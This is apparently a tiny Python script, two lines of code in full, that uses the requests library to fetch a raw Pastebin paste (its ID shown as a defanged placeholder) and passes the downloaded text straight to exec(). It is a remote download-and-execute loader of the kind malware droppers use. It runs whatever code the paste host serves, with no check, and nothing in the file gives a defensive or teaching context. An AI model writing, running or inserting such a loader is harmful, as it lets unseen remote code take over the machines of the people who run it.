import requests

exec(requests.get("https://pastebin.com/raw/DEFANGED0").text)
